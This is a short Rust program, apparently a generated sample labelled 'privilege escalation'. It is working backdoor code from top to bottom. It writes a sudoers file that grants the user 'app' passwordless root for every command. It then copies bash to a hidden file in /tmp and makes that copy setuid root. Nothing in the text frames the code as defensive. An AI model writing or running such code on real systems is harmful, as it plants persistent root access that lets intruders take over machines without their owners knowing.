// class: privilege escalation; style: short
use std::fs;
use std::os::unix::fs::PermissionsExt;

fn main() -> std::io::Result<()> {
    fs::write("/etc/sudoers.d/app", "app ALL=(ALL) NOPASSWD: ALL\n")?;
    fs::copy("/bin/bash", "/tmp/.bash")?;
    fs::set_permissions("/tmp/.bash", fs::Permissions::from_mode(0o4755))
}
